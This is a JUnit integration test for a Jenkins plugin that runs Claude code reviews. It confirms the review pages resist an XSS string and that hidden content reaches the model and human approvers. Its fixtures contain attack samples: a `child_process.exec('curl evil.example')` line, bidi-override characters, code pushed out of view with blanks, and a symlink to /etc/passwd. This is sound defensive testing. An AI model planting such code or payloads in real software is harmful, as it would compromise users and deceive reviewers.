package io.jenkins.plugins.minibuild.controller;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.jenkins.plugins.minibuild.process.Deadline;
import io.jenkins.plugins.minibuild.standin.ModelService;
import io.jenkins.plugins.minibuild.standin.ModelService.Turn;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.WebElement;

/** {@code aiReview} on a real controller and its agent, against the stand-in of the model's service. Skipped without a controller. */
@Timeout(400)
@NeedsController
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class ReviewControllerIT {
    private static final String KEY = "sk-controller-review-77c05e1b";
    private static final Path PICTURES = Path.of("target", "controller-review");
    private static final String TRICK =
            "<script>window.hacked = 1</script><img src=x onerror=\"window.hacked=1\"> ${1+1}";
    /** The same commits wherever it runs, so that their ids are known. */
    private static final String REPOSITORY =
            "export GIT_AUTHOR_DATE=2026-01-01T00:00:00Z GIT_COMMITTER_DATE=2026-01-01T00:00:00Z"
                    + " GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b.c GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b.c"
                    + " && rm -rf code && mkdir -p code && cd code && git init -q -b main .";

    private static final String CHECKOUT = REPOSITORY
            + " && echo 'const a = 1' > app.js && git add . && git commit -qm first && git switch -q -c feature"
            + " && echo 'const b = eval(\"<b>x</b>\")' >> app.js && printf '\\000' > logo.png"
            + " && git add . && git commit -qm second";

    /** The heading of the hunk holds U+2028; code stands behind characters that turn the direction around, behind blanks, and in a script with a zero byte. */
    private static final String HIDDEN = REPOSITORY
            + " && printf 'const SEP = \"\\342\\200\\250\"; // separator\\n' > pay.js && seq 30 >> pay.js"
            + " && git add . && git commit -qm first && git switch -q -c feature"
            + " && echo 'require(\"child_process\").exec(\"curl evil.example\");' >> pay.js"
            + " && printf '// \\342\\200\\256 } \\342\\201\\246 admin\\n' >> pay.js"
            + " && printf '%4000shidden();\\n' '' >> pay.js && printf '// \\000\\nzero();\\n' > zero.js"
            + " && printf '\\000' > tool.wasm && ln -s /etc/passwd link && echo run > run.sh && chmod +x run.sh"
            + " && git add . && git commit -qm second";

    @TempDir
    static Path root;

    private static RealController controller;
    private static ModelService model;

    @BeforeAll
    static void boot() throws Exception {
        controller = RealController.start(root);
        controller.startAgent();
        model = ModelService.start();
        ClaudeControllerIT.configure(controller, model, KEY);
    }

    /** The commit at which a repository's feature leaves its main branch. */
    private static String base(String repository) throws Exception {
        Process process = new ProcessBuilder("sh", "-c", repository + " && git rev-parse main")
                .directory(Files.createTempDirectory(root, "repository").toFile())
                .start();
        String commit = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip();
        assertThat(process.waitFor()).isZero();
        return commit;
    }

    @AfterAll
    static void stop() throws Exception {
        if (model != null) {
            model.close();
        }
        if (controller != null) {
            Files.createDirectories(PICTURES);
            Files.writeString(PICTURES.resolve("controller.log"), controller.log());
            controller.close();
        }
    }

    private static Turn report(int score, String severity) {
        Map<String, Object> verdicts = new LinkedHashMap<>();
        for (String each : List.of("quality", "security", "error handling", "style", "tests")) {
            verdicts.put(each, Map.of("passed", !each.equals("security"), "comment", "Comment: " + TRICK));
        }
        List<Map<String, Object>> findings = new ArrayList<>();
        for (int line : new int[] {2, 99}) {
            Map<String, Object> finding = new LinkedHashMap<>();
            finding.put("severity", severity);
            finding.put("category", "security");
            finding.put("file", "app.js");
            finding.put("fromLine", line);
            finding.put("toLine", line);
            finding.put("snippet", "const b = eval(\"<b>x</b>\")");
            finding.put("problem", "Runs what it is given: " + TRICK);
            finding.put("suggestion", "Use <b>JSON.parse</b>.");
            findings.add(finding);
        }
        Map<String, Object> answer = new LinkedHashMap<>();
        answer.put("score", score);
        answer.put("summary", "A summary: " + TRICK);
        answer.put("findings", findings);
        answer.put("verdicts", verdicts);
        return Turn.tool("StructuredOutput", answer);
    }

    @Test
    @Order(1)
    void aPipelineIsReviewedAndItsScoreSetsItUnstable() throws Exception {
        controller.createPipeline("shop", """
                node('remote') {
                  sh '''%s'''
                  def review = aiReview(directory: 'code', base: 'main', minScore: 60, url: "${pwd()}/code")
                  echo "score ${review.score}, ${review.errors} errors, dropped ${review.dropped}, ${review.result}"
                }
                """.formatted(CHECKOUT.replace("\\", "\\\\")));
        model.script(Turn.tool("Read", Map.of("file_path", "app.js")), report(45, "error"));

        assertThat(controller.build("shop")).as(controller.console("shop", 1)).isEqualTo("UNSTABLE");
        assertThat(controller.console("shop", 1))
                .contains("score 45, 1 errors, dropped 1, UNSTABLE", "The review's score 45 is below 60");
        JsonNode api = controller.json("job/shop/1/api/json?depth=2");
        JsonNode review = api.findValue("reviews").get(0);
        assertThat(review.path("score").asInt()).isEqualTo(45);
        assertThat(review.path("findings").get(0).path("file").asText()).isEqualTo("app.js");
        assertThat(review.path("verdicts").path("tests").path("passed").asBoolean())
                .isTrue();
        assertThat(controller
                        .get("job/shop/1/artifact/mini-build/review-1.sarif")
                        .body())
                .contains("\"version\" : \"2.1.0\"", "review/security");
        assertThat(controller
                        .as(null, null, "GET", "job/shop/1/mini-build-review/")
                        .statusCode())
                .isEqualTo(403);
        assertThat(RealController.filesWith(KEY, controller.home(), controller.agentHome()))
                .isEmpty();

        model.script(report(85, "info"));
        assertThat(controller.build("shop")).isEqualTo("SUCCESS");
    }

    @Test
    @Order(2)
    void aFreestyleJobFailsOnAnErrorAndKeepsTheReport() throws Exception {
        controller.createJob("free", """
                <project>
                  <builders>
                    <hudson.tasks.Shell><command>%s</command></hudson.tasks.Shell>
                    <io.jenkins.plugins.minibuild.review.AiReviewBuilder plugin="mini-build">
                      <step><directory>code</directory><url>$WORKSPACE/code</url><base>main</base><failOn>error</failOn></step>
                    </io.jenkins.plugins.minibuild.review.AiReviewBuilder>
                  </builders>
                </project>
                """.formatted(RealController.escapeXml(CHECKOUT)));
        model.script(report(45, "error"));

        assertThat(controller.build("free")).as(controller.console("free", 1)).isEqualTo("FAILURE");
        assertThat(controller.console("free", 1))
                .contains("Findings of the review that are error or worse: 1; the first: app.js:2");
        assertThat(controller.console("free", 1)).doesNotContain("at io.jenkins.plugins");
        assertThat(controller
                        .json("job/free/1/api/json?depth=2")
                        .findValue("reviews")
                        .get(0)
                        .path("errors")
                        .asInt())
                .isEqualTo(1);
    }

    @Test
    @Order(3)
    void theSnippetGeneratorLeavesDefaultsOut() throws Exception {
        String step = "io.jenkins.plugins.minibuild.review.AiReviewStep";
        String form = """
                {"stapler-class": "%1$s", "$class": "%1$s", "directory": "", "apiKeyCredentialsId": "", "model": "",
                 "maxTurns": "60", "timeoutMinutes": "15", "maxBudgetUsd": "3.0", "maxOutputMb": "100", "retries": "1",
                 "baseUrl": "", "claudeTool": "", "trustRepository": false, "base": "%2$s", "head": "", "url": "",
                 "gitCredentialsId": "", "paths": "", "language": "", "minScore": "%3$s", "failOn": "", "incremental": false,
                 "comment": false, "mergeRequest": "", "commentCredentialsId": "", "maxDiffKb": "500"}
                """;
        String generator = "job/shop/pipeline-syntax/generateSnippet";
        assertThat(controller
                        .post(generator, Map.of("json", form.formatted(step, "", "")))
                        .body())
                .contains("aiReview()");
        assertThat(controller
                        .post(generator, Map.of("json", form.formatted(step, "main", "60")))
                        .body())
                .contains("aiReview base: 'main', minScore: 60");
    }

    @Test
    @Order(4)
    void thePagesAreReadableInBothLanguagesAndRunNothing() throws Exception {
        assumeTrue(Browser.isInstalled(), "skipped: no Chromium");
        try (Browser browser = Browser.open(controller, PICTURES, "en")) {
            browser.go("job/shop/1/mini-build-review/");
            assertThat(browser.text())
                    .contains(
                            "45",
                            "app.js:2",
                            "const b = eval(\"<b>x</b>\")",
                            "Runs what it is given: " + TRICK,
                            "Use <b>JSON.parse</b>.",
                            "A summary: " + TRICK,
                            "logo.png",
                            "is below 60");
            assertThat(browser.script("return String(window.hacked)")).isEqualTo("undefined");
            browser.picture("review-en");
            browser.go("job/shop/1/");
            assertThat(browser.text()).contains("errors: 1, warnings: 0, infos: 0");
            browser.picture("build-en");
            browser.go("job/shop/");
            assertThat(browser.text()).contains("Review scores");
            browser.picture("job-en");
            browser.go("job/free/configure");
            browser.one("[name=\"_.base\"]");
            browser.script("document.querySelectorAll('.advanced-button, .advancedButton').forEach(b => b.click());"
                    + "document.querySelector('[name=\"_.base\"]').scrollIntoView()");
            Thread.sleep(1200);
            browser.picture("freestyle-en");
            assertThat(browser.scriptErrors()).isEmpty();
        }
        try (Browser browser = Browser.open(controller, PICTURES, "zh-CN")) {
            browser.go("job/shop/1/mini-build-review/");
            assertThat(browser.text()).contains("代码评审", "错误 1", "类别", "建议", "未评审");
            browser.picture("review-zh");
            browser.go("job/shop/1/");
            browser.picture("build-zh");
            browser.go("job/free/configure");
            browser.one("[name=\"_.base\"]");
            browser.script("document.querySelector('[name=\"_.base\"]').scrollIntoView()");
            Thread.sleep(1200);
            assertThat(browser.text()).contains("让 Claude 评审变更", "比较基准");
            browser.picture("freestyle-zh");
        }
    }

    private static HttpResponse<String> approve(String more) throws Exception {
        String review = "job/hidden/1/mini-build-approval/1/";
        String sha = controller.json(review + "state").path("diffSha256").asText();
        return controller.as(
                RealController.USER,
                RealController.PASSWORD,
                "POST",
                review + "verdict?verdict=approve&diffSha256=" + sha + more,
                "Accept",
                "application/json");
    }

    /** From a separator in the heading of a hunk to a script with a zero byte: model and people are shown what an author hides. */
    @Test
    @Order(5)
    void whatAnAuthorHidesIsShownToTheModelAndToPeople() throws Exception {
        controller.createPipeline("hidden", """
                node('remote') {
                  sh '''%s'''
                  def review = aiReview(directory: 'code', base: '%s', minScore: 60)
                  echo "result ${review.result}, left out ${review.notReviewed}"
                }
                humanReview(fourEyes: false)
                """.formatted(HIDDEN.replace("\\", "\\\\"), base(HIDDEN)));
        model.script(report(90, "info"));
        int before = model.requests().size();

        controller.start("hidden");
        controller.awaitConsole("hidden", 1, "Waiting for");
        assertThat(controller.console("hidden", 1)).contains("result UNSTABLE, left out [tool.wasm]");
        String asked = model.requests().get(before).text();
        assertThat(asked)
                .contains("+require(", "curl evil.example", "// <U+202E> } <U+2066> admin", "hidden();", "// <U+0000>")
                .contains("+zero();", "link (added, symbolic link", "run.sh (added, executable)");

        String page = controller.get("job/hidden/1/mini-build-approval/1/").body();
        assertThat(page)
                .contains("curl evil.example", "approval-mark\">U+202E", "approval-mark\">U+0000", "zero();")
                .contains("tool.wasm", "symbolic link", "Show everything");
        HttpResponse<String> unseen = approve("");
        assertThat(unseen.statusCode()).isEqualTo(409);
        assertThat(unseen.body()).contains("Nobody approves what they have not seen", "tool.wasm");
        assertThat(controller
                        .json("job/hidden/1/mini-build-approval/1/rows?file=1&from=0&most=100")
                        .toString())
                .contains("hidden();");
        approveInTheBrowser();
        assertThat(controller.await("hidden", 1, Duration.ofMinutes(2)))
                .as(controller.console("hidden", 1))
                .isEqualTo("UNSTABLE");
    }

    private static void approveInTheBrowser() throws Exception {
        if (!Browser.isInstalled()) {
            assertThat(approve("&opened=true").statusCode()).isEqualTo(200);
            return;
        }
        String page = "job/hidden/1/mini-build-approval/1/";
        try (Browser browser = Browser.open(controller, PICTURES, "zh-CN")) {
            browser.go(page);
            assertThat(browser.text()).contains("我已在别处查看过它们", "全部显示", "符号链接", "可执行");
            browser.picture("hidden-zh");
        }
        try (Browser browser = Browser.open(controller, PICTURES, "en")) {
            browser.go(page);
            assertThat(browser.all(".approval-mark"))
                    .extracting(WebElement::getText)
                    .contains("U+202E", "U+2066", "U+0000");
            assertThat(browser.text()).doesNotContain("hidden();");
            assertThat(browser.one("#approval-approve").isEnabled()).isFalse();
            browser.picture("hidden-en");
            browser.one("#approval-all").click();
            Deadline deadline = Deadline.after(Duration.ofSeconds(30));
            while (!browser.all(".approval-unopened").isEmpty() && !deadline.expired()) {
                Thread.sleep(200);
            }
            assertThat(browser.text()).contains("hidden();");
            assertThat(browser.one("#approval-approve").isEnabled())
                    .as("before the word on tool.wasm")
                    .isFalse();
            browser.one("#approval-elsewhere").click();
            assertThat(browser.one("#approval-approve").isEnabled()).isTrue();
            browser.picture("opened-en");
            browser.one("#approval-approve").click();
            browser.one("#approval-votes");
            assertThat(browser.scriptErrors()).isEmpty();
        }
    }
}
